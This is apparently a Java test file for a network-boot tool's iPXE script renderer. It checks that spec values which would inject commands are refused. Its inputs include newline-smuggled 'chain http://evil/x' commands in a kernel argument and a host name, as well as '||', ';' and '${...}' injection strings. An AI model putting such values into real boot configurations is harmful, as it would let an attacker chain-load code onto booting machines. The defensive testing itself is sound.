package io.netroot.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.netroot.spec.BootServer;
import io.netroot.spec.Host;
import io.netroot.spec.Kernel;
import io.netroot.spec.Profile;
import io.netroot.spec.SecureBoot;
import io.netroot.spec.SpecLoader;
import io.netroot.spec.SpecSet;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Spec values that would become iPXE commands, expand an iPXE setting or split a word of the kernel
 * line are refused, never written: the iPXE script of a host holds its kernel, initrd and boot
 * commands and nothing else, whatever the values.
 */
class IpxeHostileValuesTest {

  private static final SpecSet LOADERS = SpecLoader.load(Path.of("examples/loaders"));

  /** The example with the iPXE profile's kernel arguments replaced. */
  static SpecSet withKernelArgs(List<String> kernelArgs) {
    Profile p = LOADERS.profilesByName().get("ipxe");
    Profile hostile =
        new Profile(
            p.name(),
            p.kernel(),
            p.rootImage(),
            p.nfsOptions(),
            kernelArgs,
            p.menuLabel(),
            p.firmware(),
            p.loader(),
            SecureBoot.OPTIONAL,
            HostileSpecs.originWith("ipxe.yaml", "spec.kernelArgs.0", 9, 16));
    return replace(hostile, null, null);
  }

  private static SpecSet replace(Profile profile, Host host, Kernel kernel) {
    return new SpecSet(
        LOADERS.server(),
        LOADERS.networks(),
        kernel == null ? LOADERS.kernels() : List.of(kernel),
        LOADERS.rootImages(),
        LOADERS.exports(),
        LOADERS.profiles().stream()
            .map(p -> profile != null && p.name().equals(profile.name()) ? profile : p)
            .toList(),
        LOADERS.hosts().stream()
            .map(h -> host != null && h.mac().equals(host.mac()) ? host : h)
            .toList());
  }

  private static Host ipxeHost(SpecSet specs) {
    return specs.hosts().stream().filter(h -> IpxeLayout.boots(specs, h)).findFirst().orElseThrow();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${root-path}",
        "a||chain",
        "a&&chain",
        "x;chain",
        "#comment",
        "a\"b",
        "it's",
        "back\\slash"
      })
  void aKernelArgumentIpxeWouldReadAsSyntaxIsRefusedWithItsPosition(String argument) {
    SpecSet specs = withKernelArgs(List.of(argument));

    assertThatThrownBy(() -> new IpxeScriptRenderer(specs).host(ipxeHost(specs)))
        .isInstanceOf(UnsafeValueException.class)
        .hasMessageStartingWith("ipxe.yaml:9:16: Profile \"ipxe\": spec.kernelArgs.0")
        .hasMessageContaining("cannot be written into");
  }

  @Test
  void aLineBreakThatWouldStartACommandIsRefused() {
    SpecSet specs = withKernelArgs(List.of("quiet\nchain http://evil/x"));

    assertThatThrownBy(() -> new IpxeScriptRenderer(specs).host(ipxeHost(specs)))
        .isInstanceOf(UnsafeValueException.class)
        .hasMessageContaining("spec.kernelArgs.0")
        .hasMessageNotContaining("\n");
  }

  @Test
  void aHostNameThatWouldEndItsCommentIsRefused() {
    Host host = ipxeHost(LOADERS);
    Host evil =
        new Host(
            "node02\nchain http://evil/x",
            host.mac(),
            host.ip(),
            host.profile(),
            host.firmware(),
            HostileSpecs.originWith("ipxe.yaml", "metadata.name", 15, 17));
    SpecSet specs = replace(null, evil, null);

    assertThatThrownBy(() -> new IpxeScriptRenderer(specs).host(evil))
        .isInstanceOf(UnsafeValueException.class)
        .hasMessageStartingWith("ipxe.yaml:15:17: Host ")
        .hasMessageContaining("would end the comment");
  }

  @ParameterizedTest
  @ValueSource(strings = {"initrd?x=1", "initrd#x", "initrd%2e", "init rd", "initrd${x}"})
  void anInitrdFileNameThatIsNotAPlainUrlPathIsRefused(String name) {
    Kernel k = LOADERS.kernels().get(0);
    Kernel kernel =
        new Kernel(
            k.name(),
            k.image(),
            Path.of("/boot/" + name),
            k.sha256(),
            k.config(),
            k.rootMethod(),
            k.fromImage(),
            HostileSpecs.originWith("lab.yaml", "spec.initrd", 27, 11));
    SpecSet specs = replace(null, null, kernel);

    assertThatThrownBy(() -> new IpxeScriptRenderer(specs).host(ipxeHost(specs)))
        .isInstanceOf(UnsafeValueException.class)
        .hasMessageStartingWith("lab.yaml:27:11: Kernel \"debian\": spec.initrd");
  }

  /**
   * Whatever the arguments, the script is refused or it is the three commands, and each argument is
   * one word of the kernel line, exactly as written.
   */
  @Property(tries = 400)
  void aScriptIsRefusedOrHoldsItsThreeCommandsAndEachArgumentAsOneWord(
      @ForAll("arguments") List<String> args) {
    SpecSet specs = withKernelArgs(args);
    String script;
    try {
      script = new IpxeScriptRenderer(specs).host(ipxeHost(specs));
    } catch (UnsafeValueException refused) {
      return;
    }
    List<String> lines = script.lines().toList();
    List<String> commands = lines.stream().filter(l -> !l.startsWith("#")).toList();
    assertThat(commands).hasSize(3);
    assertThat(commands.get(0)).startsWith("kernel http://10.20.0.1/images/debian/vmlinuz ");
    assertThat(commands.get(1))
        .isEqualTo("initrd --name initrd.img http://10.20.0.1/images/debian/initrd.img");
    assertThat(commands.get(2)).isEqualTo("boot");
    assertThat(lines.stream().filter(l -> l.startsWith("#"))).hasSize(3);
    List<String> words = Arrays.asList(commands.get(0).split(" "));
    for (String arg : args) {
      assertThat(words).contains(arg);
      assertThat(arg).doesNotContain("$", "\"", "'", "\\", "|", "&", ";", "#");
    }
  }

  @Provide
  Arbitrary<List<String>> arguments() {
    return HostileSpecs.values().list().ofMinSize(1).ofMaxSize(3);
  }

  @Test
  void theBootScriptHoldsOnlyNetrootsTextAndTheServersAddress() {
    String boot = new IpxeScriptRenderer(LOADERS).boot();
    assertThat(boot)
        .startsWith("#!ipxe\n")
        .contains("chain --autofree http://10.20.0.1/ipxe/01-${netX/mac:hexhyp}.ipxe || goto none");
  }

  @Test
  void aPortOtherThan80IsInTheUrls() {
    BootServer b = LOADERS.server();
    BootServer.Http http = b.http();
    BootServer server =
        new BootServer(
            b.name(),
            b.address(),
            b.platform(),
            b.tftpRoot(),
            b.dhcp(),
            b.nfs(),
            b.tftp(),
            b.bootloader(),
            b.pxe(),
            b.agent(),
            new BootServer.Http(8080, http.root(), http.address(), http.config(), http.service()),
            b.origin());
    SpecSet specs =
        new SpecSet(
            server,
            LOADERS.networks(),
            LOADERS.kernels(),
            LOADERS.rootImages(),
            LOADERS.exports(),
            LOADERS.profiles(),
            LOADERS.hosts());
    assertThat(new IpxeScriptRenderer(specs).host(ipxeHost(specs)))
        .contains("kernel http://10.20.0.1:8080/images/debian/vmlinuz ");
    assertThat(new NginxConfRenderer(server).file()).contains("    listen 8080;\n");
  }
}
